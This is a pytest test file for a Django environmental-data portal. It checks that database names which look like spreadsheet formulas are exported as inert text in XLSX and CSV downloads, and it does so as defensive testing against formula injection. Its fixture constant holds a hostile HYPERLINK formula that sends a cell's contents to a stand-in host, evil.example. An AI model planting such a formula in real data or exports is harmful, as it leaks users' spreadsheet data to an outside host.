"""Text from the database reaches spreadsheets as text: a facility, source or station named like
a formula comes out of the XLSX downloads, the compliance report and every CSV as text that no
spreadsheet runs (no formula cell in the XLSX; an apostrophe before the CSV cell)."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest

from envhub.catalog import services
from envhub.compliance.models import Permit, Regulation
from envhub.registry.models import Facility, Medium, Parameter, Source, Station
from tests.catalog.test_portal import send_air

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'


def _bytes(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [name for name in archive.namelist() if name.startswith("xl/worksheets/")
                and b"<f>" in archive.read(name)]


def _cells(xlsx: bytes) -> dict:
    """Every cell of every sheet: value -> data type."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    return {cell.value: cell.data_type for sheet in book.worksheets
            for row in sheet.iter_rows() for cell in row if cell.value is not None}


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def named_like_formulas(world):
    Facility.objects.filter(pk=world.facility_hn.pk).update(name=EVIL)
    Source.objects.filter(pk=world.stack_hn.pk).update(name="+SUM(1;2)", fuel="@x")
    Station.objects.filter(pk=world.air_hn.pk).update(name=EVIL)
    send_air(world, [3, 2, 1])
    services.sync()
    return world


def test_the_registry_download_keeps_names_as_text(named_like_formulas):
    client = named_like_formulas.client("steward")
    base = "/datasets/co-so-va-nguon-thai/download"

    xlsx = _bytes(client.get(f"{base}.xlsx"))
    assert _formulas(xlsx) == []
    cells = _cells(xlsx)
    assert (cells[EVIL], cells["+SUM(1;2)"], cells["@x"]) == ("s", "s", "s")

    rows = _csv(_bytes(client.get(f"{base}.csv")))
    header = rows[0]
    ours = [row for row in rows[1:] if row[header.index("source")] == "'+SUM(1;2)"]
    assert len(ours) == 1
    assert ours[0][header.index("facility")] == "'" + EVIL
    assert ours[0][header.index("fuel")] == "'@x"


def test_the_monitoring_download_keeps_station_names_as_text(named_like_formulas):
    """On PostgreSQL the database writes this CSV itself (COPY): the same escaping."""
    client = named_like_formulas.client("steward")
    dataset = services.Dataset.objects.get(identifier__startswith="quan-trac-kk-hourly-01")
    base = f"/datasets/{dataset.identifier}/download"

    rows = _csv(_bytes(client.get(f"{base}.csv")))
    header = rows[0]
    assert len(rows) == 4
    assert {row[header.index("station_name")] for row in rows[1:]} == {"'" + EVIL}
    assert {row[header.index("parameter")] for row in rows[1:]} == {"PM2_5"}
    assert {float(row[header.index("mean")]) for row in rows[1:]} == {30.0}
    assert _formulas(_bytes(client.get(f"{base}.xlsx"))) == []


def test_the_compliance_report_keeps_names_as_text(named_like_formulas):
    world = named_like_formulas
    Permit.objects.create(
        source=world.stack_hn, number="=1+1", valid_from=datetime.date(2024, 1, 1),
        regulation=Regulation.objects.get(code="QCVN 19:2009/BTNMT"), column="B",
        facility_flow_m3h=54_000, location_class="3")
    report = world.client("steward").get(f"/facilities/{world.facility_hn.pk}/compliance.xlsx")

    xlsx = _bytes(report)
    assert _formulas(xlsx) == []
    cells = _cells(xlsx)
    assert (cells[EVIL], cells["=1+1"]) == ("s", "s")


def test_the_observations_csv_keeps_its_head_as_text(named_like_formulas):
    # Station and parameter codes cannot look like formulas (validated), but a unit is free
    # text a steward types.
    world = named_like_formulas
    Parameter.objects.filter(code="PM2_5", medium=Medium.AIR).update(unit="@µg/m3")
    response = world.client("steward").get(
        f"/api/v1/observations?station={world.air_hn.code}&parameter=PM2_5&interval=hour"
        "&format=csv")

    rows = _csv(_bytes(response))
    assert rows[0][:3] == ["station", "parameter", "unit"]
    assert len(rows) == 4 and {row[2] for row in rows[1:]} == {"'@µg/m3"}
